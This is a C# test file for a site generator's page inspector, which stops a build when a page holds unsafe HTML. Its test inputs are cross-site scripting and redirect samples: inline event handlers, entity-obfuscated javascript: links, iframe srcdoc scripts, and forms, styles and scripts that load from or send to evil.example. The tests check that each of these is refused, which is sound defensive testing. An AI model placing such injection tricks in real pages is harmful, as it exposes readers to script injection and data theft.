using SiteGen.Diagnostics;
using SiteGen.Rendering;

namespace SiteGen.Tests.Rendering;

/// <summary>
/// The inspector is the last guard before a page is published: whatever a template or content did, a page that runs
/// someone else's script, loads from another host or lacks its one heading must stop the build. It reads pages as a
/// browser tokenizes them, so escaped tricks are seen for what they are.
/// </summary>
public sealed class PageInspectorTests
{
    public static readonly string Policy = $"<meta http-equiv=\"Content-Security-Policy\" content=\"{ContentSecurityPolicy.Value}\">";

    private static IReadOnlyList<Diagnostic> Problems(string main)
    {
        var diagnostics = new DiagnosticBag();
        new PageInspector(diagnostics).Inspect("/side/", "side.sbn", $"<!doctype html><html lang=\"nb\"><head>{Policy}<title>T</title></head><body><main>{main}</main></body></html>");
        return diagnostics.ToSortedList();
    }

    [Theory]
    [InlineData("""<h1>Tittel</h1><p onclick="steal()">Tekst</p>""", "attribute onclick on <p>")]
    [InlineData("""<h1>Tittel</h1><a href=" java&#115;cript:steal()">Lenke</a>""", "address  javascript:steal() in href on <a>")]
    [InlineData("""<h1>Tittel</h1><a href="&#1;javascript:steal()">Lenke</a>""", "in href on <a>; only http, https, mailto")]
    [InlineData("""<h1>Tittel</h1><iframe srcdoc="<script>steal()</script>"></iframe>""", "has a <iframe> element")]
    [InlineData("""<h1>Tittel</h1><base href="https://evil.example/">""", "has a <base> element")]
    [InlineData("""<h1>Tittel</h1><meta http-equiv="refresh" content="0;url=https://evil.example/">""", "the only one allowed is the site's Content-Security-Policy")]
    [InlineData("""<h1>Tittel</h1><object data="/x.swf"></object>""", "has a <object> element")]
    [InlineData("""<h1>Tittel</h1><embed src="/x.swf">""", "has a <embed> element")]
    [InlineData("""<h1>Tittel</h1><form action="https://evil.example/"><button>Send</button></form>""", "loads or sends to https://evil.example/")]
    [InlineData("""<h1>Tittel</h1><div srcdoc="x">Tekst</div>""", "attribute srcdoc on <div>")]
    [InlineData("""<h1>Tittel</h1><p style="background:url(//evil.example/)">Tekst</p>""", "attribute style on <p>")]
    [InlineData("""<h1>Tittel</h1><table><tr><td style="background:url(//evil.example/)">Tekst</td></tr></table>""", "inline style")]
    [InlineData("""<h1>Tittel</h1><style>p{}</style>""", "has a <style> element")]
    [InlineData("""<h1>Tittel</h1><script src="https://evil.example/x.js"></script>""", "script that is not one of the site's own files")]
    [InlineData("""<h1>Tittel</h1><script>steal()</script>""", "script that is not one of the site's own files")]
    [InlineData("""<h1>Tittel</h1><img src="//tracker.example/pixel.gif" alt="">""", "loads or sends to //tracker.example/pixel.gif")]
    [InlineData("""<h1>Tittel</h1><h1>Enda en</h1>""", "has 2 h1 elements")]
    [InlineData("""<p>Ingen overskrift</p>""", "has 0 h1 elements")]
    [InlineData("""<h1> <span></span> </h1>""", "has an empty h1")]
    public void A_page_a_reader_must_not_get_is_refused_with_the_reason(string main, string reason)
    {
        var problems = Problems(main);

        var problem = Assert.Single(problems, p => p.Message.Contains(reason, StringComparison.Ordinal));
        Assert.All(problems, p => Assert.True(p.IsError));
        Assert.Contains("/side/", problem.Message);
        Assert.Equal("side.sbn", problem.Span.File);
    }

    [Fact]
    public void Markup_inside_a_title_is_text_as_a_browser_reads_it_and_the_sites_own_script_is_fine()
    {
        Assert.Empty(Problems("""<h1>Tittel <em>med</em> vekt</h1><title><script src='https://x.example/'></title><script src="/assets/search.js"></script>"""));
    }

    [Fact]
    public void A_page_without_the_content_security_policy_is_refused()
    {
        var diagnostics = new DiagnosticBag();

        new PageInspector(diagnostics).Inspect("/side/", "side.sbn", "<!doctype html><html lang=\"nb\"><head><title>T</title></head><body><main><h1>T</h1></main></body></html>");

        Assert.Contains(diagnostics.ToSortedList(), d => d.Message.Contains("0 Content-Security-Policy meta tags", StringComparison.Ordinal));
    }

    [Fact]
    public void The_main_text_is_the_text_of_main_with_entities_read_and_without_breadcrumbs_or_scripts()
    {
        var text = new PageInspector(new DiagnosticBag()).Inspect("/", "side.sbn",
            """<body><a href="#main">Hopp</a><main><nav>Forside</nav><h1>Bl&aring; b&#229;t</h1><p>Ett<br>to</p><script src="/assets/a.js">x</script></main><footer>Bunn</footer></body>""");

        Assert.Equal("Blå båt\nEtt\nto", text);
    }
}
